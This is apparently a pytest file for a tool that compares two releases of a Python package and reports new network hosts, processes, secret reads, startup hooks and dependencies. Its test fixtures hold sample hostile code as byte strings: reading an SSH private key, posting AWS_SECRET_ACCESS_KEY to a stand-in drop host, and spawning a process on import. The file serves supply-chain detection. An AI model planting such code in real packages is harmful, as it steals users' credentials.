"""Changes between two releases, as a reader is told them."""

from __future__ import annotations

import pytest

from pratique.model import Review
from pratique.pipeline import review_files

CLIENT = b"""import requests

class Client:
    def get(self, path):
        return requests.get('https://api.acme.invalid/' + path).json()
"""
META = b"Metadata-Version: 2.1\nName: acme\nVersion: 1.0\nRequires-Dist: requests>=2\n"
BEFORE = {
    "acme/__init__.py": b"from acme.client import Client\n",
    "acme/client.py": CLIENT,
    "acme-1.0.dist-info/METADATA": META,
}
ADDED = {
    "acme/__init__.py": ((b"import os\nos.system('true')\n", "capability", "process.spawn", "on import"),),
    "acme/client.py": (
        (
            b"\ndef a():\n    requests.get('https://other.invalid/x')\n",
            "host",
            "other.invalid",
            "https://other.invalid/x",
        ),
        (b"\ndef a():\n    return open('/home/u/.ssh/id_rsa').read()\n", "secret", "fs.read(ssh-key)", "when called"),
        (b"\ndef a(to, what):\n    requests.post(to, data=what)\n", "destination", "network.http", "computed"),
    ),
}


def _told(review: Review, *topics: str) -> list[tuple[str, str, str, str]]:
    return [(one.kind, one.topic, one.subject, one.after) for one in review.changes if one.topic in topics]


def test_a_release_compared_with_itself_has_no_changes():
    found = review_files(BEFORE, before=BEFORE)

    assert found.changes == ()
    assert found.compared is not None
    assert not [use for use in found.uses if "new" in use.traits]


def test_without_a_base_nothing_is_compared():
    found = review_files(BEFORE)

    assert (found.changes, found.compared) == ((), None)


def test_reformatting_moving_and_renaming_change_nothing_that_is_told():
    moved = {
        "acme/__init__.py": b"from acme.http import Client\n",
        "acme/http.py": b"# moved\n" + CLIENT.replace(b"(self, path)", b"(\n        self, path\n    )"),
        "acme-1.1.dist-info/METADATA": META.replace(b"1.0", b"1.1"),
    }

    found = review_files(moved, before=BEFORE)

    assert {one.topic for one in found.changes} == {"file"}
    assert not [use for use in found.uses if "new" in use.traits]


@pytest.mark.parametrize(("file", "case"), [(file, case) for file, cases in ADDED.items() for case in cases])
def test_what_new_code_does_is_told(file, case):
    added, topic, subject, after = case

    found = review_files(BEFORE | {file: BEFORE[file] + added}, before=BEFORE)

    assert ("added", topic, subject, after) in _told(found, topic)


def test_what_was_there_and_runs_earlier_now_is_told():
    added = b"\nrequests.get('https://api.acme.invalid/v')\n"

    found = review_files(BEFORE | {"acme/client.py": CLIENT + added}, before=BEFORE)

    assert ("earlier", "capability", "network.http", "on import") in _told(found, "capability")


def test_a_secret_that_leaves_is_a_new_flow_with_its_path():
    added = b"""
import os
def tell():
    requests.post('https://drop.acme.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
"""

    found = review_files(BEFORE | {"acme/client.py": CLIENT + added}, before=BEFORE)

    (change,) = (one for one in found.changes if one.topic == "flow")
    assert (change.kind, change.after) == ("added", "drop.acme.invalid")
    assert change.subject.endswith("→ network.http")
    assert change.path[-1].where.segments == ("acme/client.py",)


def test_an_edit_shows_what_differs():
    edited = CLIENT.replace(b"api.acme.invalid", b"api.acme.example")

    found = review_files(BEFORE | {"acme/client.py": edited}, before=BEFORE)

    (change,) = (one for one in found.changes if one.topic == "function")
    assert (change.kind, change.subject) == ("changed", "acme/client.py:Client.get")
    assert (change.before, change.after) == ("'https://api.acme.invalid/'", "'https://api.acme.example/'")


def test_a_startup_hook_is_a_new_entry_and_an_edited_one_a_changed_entry():
    hooked = BEFORE | {"acme.pth": b"import acme\n"}

    added = review_files(hooked, before=BEFORE)
    edited = review_files(hooked | {"acme.pth": b"import acme, os\n"}, before=hooked)

    assert [one[:2] for one in _told(added, "entry")] == [("added", "entry")]
    assert [one[:2] for one in _told(edited, "entry")] == [("changed", "entry")]
    assert added.changes[0].triggers == ("startup",)


def test_dependencies_gained_lost_and_narrowed_are_told():
    meta = META.replace(b"requests>=2", b"requests>=3") + b"Requires-Dist: plain-things\n"

    found = review_files(BEFORE | {"acme-1.0.dist-info/METADATA": meta}, before=BEFORE)

    assert [one[:3] for one in _told(found, "dependency")] == [
        ("added", "dependency", "plain-things"), ("changed", "dependency", "requests"),
    ]  # fmt: skip


def test_a_native_module_that_comes_is_told():
    found = review_files(BEFORE | {"acme/_fast.so": b"\x7fELF\x02\x01\x01" + bytes(200)}, before=BEFORE)

    assert ("added", "opaque") in [one[:2] for one in _told(found, "opaque")]


def test_a_like_call_with_another_destination_in_the_same_function_is_new():
    """The base posts to a computed address too: only the same values under the same name excuse."""
    before = BEFORE | {"acme/up.py": b"import requests\ndef up(to, what):\n    requests.post(to, data=what)\n"}
    after = before | {"acme/up.py": b"import requests\ndef up(to, what):\n    requests.post(to[::-1], data=what)\n"}

    found = review_files(after, before=before)

    assert [use.where.line for use in found.uses if "new" in use.traits] == [3]
